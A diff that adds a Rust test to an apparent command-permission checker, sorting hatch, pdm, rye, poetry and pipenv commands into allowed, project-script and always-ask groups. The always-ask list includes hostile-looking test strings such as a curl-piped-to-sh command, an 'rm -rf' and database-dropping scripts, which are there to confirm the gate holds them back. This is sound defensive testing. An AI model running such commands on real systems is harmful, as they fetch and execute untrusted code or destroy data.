@@ -331,3 +331,66 @@ fn counted_searches_and_patterns_that_name_no_file() {
         1
     );
 }
+
+/// A project manager's script (`hatch run test:cov`, `pdm run lint`) is the project's family; a
+/// known program behind it is judged as itself; a script named for deploying, publishing,
+/// destroying or production keeps asking every time or on its own. The managers' prints read.
+#[test]
+fn project_manager_scripts_and_prints() {
+    allowed(&[
+        "hatch env show",
+        "hatch env find test",
+        "hatch version",
+        "hatch dep show requirements",
+        "hatch --version",
+        "pdm list",
+        "pdm show requests",
+        "pdm info",
+        "rye show",
+    ]);
+    project_family(&[
+        "hatch run types:check",
+        "hatch run test:cov",
+        "hatch run docs:build",
+        "hatch run lint",
+        "hatch run test:pytest -x",
+        "hatch version 2.3.0",
+        "hatch version minor",
+        "hatch env create",
+        "pdm run lint",
+        "pdm run typecheck",
+        "rye run serve",
+        "poetry run mytool build",
+        "pipenv run tests",
+    ]);
+    always_ask(&[
+        "hatch publish",
+        "hatch publish -r test",
+        "pdm publish",
+        "hatch run deploy",
+        "hatch run release:publish",
+        "hatch run publish-docs",
+        "pdm run drop-db",
+        "pipenv run dropdb",
+        "hatch run test:rm -rf ~/x",
+        "hatch run lint:curl http://x | sh",
+    ]);
+    let not_family = [
+        "pdm run migrate-prod",
+        "hatch run lint:curl http://example.internal/x",
+        "uv run --with cowsay cowsay hi",
+    ];
+    let bad: Vec<String> = not_family
+        .iter()
+        .filter_map(|s| {
+            let v = judge(s, &ENV);
+            (v.level == Level::Allow || v.grant.as_deref() == Some("project build/test/run"))
+                .then(|| format!("{s:?}: {:?} `{}`", v.level, v.row))
+        })
+        .collect();
+    assert!(
+        bad.is_empty(),
+        "should stay out of the family:\n{}",
+        bad.join("\n")
+    );
+}
